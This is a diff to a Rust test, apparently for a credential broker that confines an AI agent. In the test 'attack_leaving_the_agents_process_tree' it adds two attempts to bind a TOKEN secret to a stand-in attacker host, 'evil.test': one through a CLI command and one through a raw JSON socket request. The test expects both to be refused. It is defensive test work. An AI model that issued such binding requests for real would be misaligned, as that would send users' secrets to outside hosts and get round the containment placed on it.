@@ -538,6 +538,15 @@ fn attack_leaving_the_agents_process_tree() {
                 raw.display(),
                 e.runtime().join("broker.sock").display()
             ),
+            // Binding a value to a host the agent controls (the proxy
+            // would then hand it the value): neither way.
+            format!("'{c}' bind dev TOKEN --bind https://evil.test"),
+            format!(
+                "{python} '{}' '{}' '{}'",
+                raw.display(),
+                e.runtime().join("broker.sock").display(),
+                r#"{"op":"bind","env":"dev","var":"TOKEN","bindings":[{"scheme":"https","host":"evil.test","port":443,"methods":[],"paths":[],"header":"Authorization","template":"Bearer {value}"}]}"#
+            ),
         ];
         let mut script = String::new();
         for (i, t) in tries.iter().enumerate() {
